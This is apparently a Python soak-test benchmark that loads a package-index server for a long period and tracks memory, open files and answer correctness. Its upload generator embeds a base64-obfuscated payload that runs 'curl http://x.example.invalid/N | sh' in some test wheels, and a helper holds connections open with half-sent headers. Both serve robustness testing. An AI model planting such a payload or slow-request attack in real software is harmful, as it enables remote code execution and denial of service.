"""Whether a server that is used for a long time grows or fails: memory, threads, open files, and answers.

    bench/soak.py [--minutes N] [--uploads N] [--reads N] [--quick]

A fresh data directory and the real `bonded serve` on embedded defaults. All the while one client uploads at a steady rate (whole
wheels, the same again, cut off, damaged, some hostile), others read pages of every kind, hang for seconds in the midst of a
request, and verify with python-tuf; once a minute an operator runs `fsck`. Memory is the proportional memory of the whole family,
the median of the last fifth of the time beside that of the second fifth: a server that leaks has a ratio well below 1.
"""

from __future__ import annotations

import argparse
import base64
import http.client
import os
import random
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

from tuf.ngclient.updater import Updater

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.server import BONDED, Server, family, memory_mb, row, serving, with_person
from bench.upload import form, headers_of, wheel_of

VAR = Path(__file__).resolve().parent.parent / "var"
PROJECTS = [f"soak-{n:03d}" for n in range(150)]
PAGES = (
    "/",
    "/simple/",
    "/account/login/",
    "/search/?q=so",
    "/metrics",
    "/healthz",
    "/readyz",
    "/nothing",
    "/metadata/timestamp.json",
)
OF_PROJECT = ("/simple/{}/", "/simple/{}/", "/pypi/{}/json", "/project/{}/", "/manage/project/{}/")
JSON = "application/vnd.pypi.simple.v1+json"
EVERY = 5.0
"""Seconds between two looks at memory."""


@dataclass
class Seen:
    """What clients were told, from many threads; `wrong` is what no client should be."""

    answers: Counter[str] = field(default_factory=Counter)
    wrong: Counter[str] = field(default_factory=Counter)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def note(self, what: str, *, right: bool) -> None:
        """Count one answer."""
        with self.lock:
            (self.answers if right else self.wrong)[what] += 1


@dataclass(frozen=True)
class Load:
    """One run: who is asked, until when (s of the monotonic clock), and what was seen."""

    server: Server
    until: float
    seen: Seen

    def over(self) -> bool:
        """Whether the time is up."""
        return time.monotonic() >= self.until

    def ask(self, what: str, method: str, path: str, body: bytes | None, headers: dict[str, str], *right: int) -> None:
        """One request on a connection of its own; `right` are the statuses that it may have."""
        connection = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=60)
        try:
            connection.request(method, path, body, headers)
            reply = connection.getresponse()
            reply.read()
            self.seen.note(f"{what} {reply.status}", right=reply.status in right)
        except (OSError, http.client.HTTPException) as error:
            self.seen.note(f"{what} {type(error).__name__}", right=False)
        finally:
            connection.close()


def upload(load: Load, token: str, rate: float) -> None:
    """Wheels at `rate` a second, of which 3 % are hostile, 3 % damaged, 2 % cut off, and 3 % come twice."""
    rng = random.Random(1)
    headers = headers_of(token)
    releases: Counter[str] = Counter()
    for turn in range(1, sys.maxsize):
        if load.over():
            return
        began, name, kind = time.monotonic(), rng.choice(PROJECTS), rng.random()
        releases[name] += 1
        code = b"import os\ndef f(x):\n    return os.path.join(x, 'a')\n" * rng.randrange(1, 80)
        if kind < 0.03:
            hidden = base64.b64encode(b"import os; os.system('curl http://x.example.invalid/%d | sh')" % turn)
            code = b"import base64\nexec(base64.b64decode('%s'))\n" % hidden
        data = rng.randbytes(rng.choice((1, 10, 40, 200)) * 1024)
        body = form(wheel_of(name, f"1.{releases[name]}.0", {"__init__.py": code, "data.bin": data}))
        if 0.03 <= kind < 0.05:
            cut_off(load, headers, body)
        elif 0.05 <= kind < 0.08:
            at = len(body) - 300  # in the file, of which the form says digests
            load.ask("damaged", "POST", "/legacy/", body[:at] + b"other" + body[at + 5 :], headers, 400)
        else:
            for _ in range(2 if kind > 0.97 else 1):
                load.ask("upload", "POST", "/legacy/", body, headers, 200)
        time.sleep(max(0.0, 1 / rate - (time.monotonic() - began)))


def cut_off(load: Load, headers: dict[str, str], body: bytes) -> None:
    """An upload whose client goes away after a third of it."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", load.server.port), timeout=60) as line:
        said = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
        line.sendall(f"POST /legacy/ HTTP/1.1\r\nHost: x\r\n{said}Content-Length: {len(body)}\r\n\r\n".encode())
        line.sendall(body[: len(body) // 3])
    load.seen.note("cut off", right=True)


def read(load: Load, rate: float) -> None:
    """Pages at `rate` a second, in many languages and forms; a project may not be there yet."""
    rng = random.Random(2)
    while not load.over():
        path = rng.choice(OF_PROJECT).format(rng.choice(PROJECTS)) if rng.random() < 0.8 else rng.choice(PAGES)
        headers = {"Accept-Language": rng.choice(["de", "ar", "fr", "ja", "en"]), "Accept-Encoding": "gzip"}
        headers |= {"Accept": JSON} if rng.random() < 0.5 and path.startswith("/simple/") else {}
        load.ask("page", "GET", path, None, headers, 200, 303, 404)
        time.sleep(1 / rate)


def hang(load: Load) -> None:
    """Half of a request, and nothing for seconds."""
    rng = random.Random(3)
    while not load.over():
        with suppress(OSError), socket.create_connection(("127.0.0.1", load.server.port), timeout=60) as line:
            line.sendall(b"GET /simple/ HTTP/1.1\r\nHost: x\r\nX-Slow: ")
            time.sleep(rng.random() * 20)


def verify(load: Load, root: bytes, folder: Path) -> None:
    """A returning client of python-tuf: refresh, look a page up, fetch it."""
    rng = random.Random(4)
    for name in ("metadata", "targets"):
        (folder / name).mkdir()
    base = f"http://127.0.0.1:{load.server.port}/"
    while not load.over():
        try:
            client = Updater(
                str(folder / "metadata"), f"{base}metadata/", str(folder / "targets"), base, bootstrap=root
            )
            client.refresh()
            if found := client.get_targetinfo(f"simple/{rng.choice(PROJECTS)}/index.json"):
                client.download_target(found, str(folder / "targets/page"))
            load.seen.note("verified", right=True)
        except Exception as error:
            load.seen.note(f"python-tuf {type(error).__name__}", right=False)
        time.sleep(3.0)


def operate(load: Load) -> None:
    """`bonded fsck`, once a minute."""
    while not load.over():
        done = subprocess.run([BONDED, "fsck", load.server.directory], capture_output=True, check=False)
        load.seen.note(f"fsck {done.returncode}", right=done.returncode == 0)
        time.sleep(min(60.0, max(0.0, load.until - time.monotonic())))


def held(pid: int) -> tuple[float, float]:
    """Memory in MB and open files of the whole family."""
    files = 0
    for one in family(pid):
        with suppress(OSError):  # it has just ended
            files += len(os.listdir(f"/proc/{one}/fd"))  # noqa: PTH208 - only their number
    return memory_mb(pid), float(files)


def watch(load: Load) -> list[tuple[float, float]]:
    """What the server holds, every few seconds."""
    looks = []
    while not load.over():
        looks.append(held(load.server.pid))
        time.sleep(EVERY)
    return looks


def report(looks: list[tuple[float, float]], seen: Seen, params: dict[str, float]) -> None:
    """Three rows: memory and open files late beside early, and the share of answers that were right."""
    fifth = max(1, len(looks) // 5)
    peak = max(memory for memory, _ in looks)
    for figure, unit, at in (("soak.memory", "MB", 0), ("soak.open_files", "files", 1)):
        early = statistics.median(look[at] for look in looks[fifth : 2 * fifth] or looks)
        late = statistics.median(look[at] for look in looks[-fifth:])
        row(figure, params, late, unit, "limit", early, "lower", peak)
    right, wrong = sum(seen.answers.values()), sum(seen.wrong.values())
    row(
        "soak.right_answers",
        params | {"answers": right + wrong},
        right / (right + wrong),
        "share",
        "limit",
        1.0,
        "higher",
        peak,
    )
    print(f"# {dict(seen.answers)}; wrong: {dict(seen.wrong)}", file=sys.stderr)


def run(server: Server, token: str, client: Path, minutes: float, uploads: float, reads: float) -> None:
    """Everybody at once, until the time is up; prints the rows."""
    root = (server.directory / "public/metadata/1.root.json").read_bytes()
    client.mkdir()
    load = Load(server, time.monotonic() + minutes * 60, Seen())
    work: list[Callable[[], None]] = [
        lambda: upload(load, token, uploads),
        lambda: read(load, reads),
        lambda: hang(load),
        lambda: verify(load, root, client),
        lambda: operate(load),
    ]
    threads = [threading.Thread(target=one) for one in work]
    for thread in threads:
        thread.start()
    looks = watch(load)
    for thread in threads:
        thread.join()
    report(looks, load.seen, {"minutes": minutes, "uploads": uploads, "reads": reads})


def main() -> None:
    """See the module."""
    words = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    words.add_argument("--minutes", type=float, default=60.0)
    words.add_argument("--uploads", type=float, default=1.0, help="a second")
    words.add_argument("--reads", type=float, default=10.0, help="a second")
    words.add_argument(
        "--peer", type=Path, help="not used: the limit is what the server held before, and no wrong answer"
    )
    words.add_argument("--quick", action="store_true", help="one minute")
    given = words.parse_args()
    minutes = 1.0 if given.quick else given.minutes
    VAR.mkdir(exist_ok=True)
    with tempfile.TemporaryDirectory(dir=VAR, prefix="soak-") as where:
        token = with_person(Path(where) / "data")
        with serving(Path(where) / "data") as server:
            run(server, token, Path(where) / "client", minutes, given.uploads, given.reads)


if __name__ == "__main__":
    main()
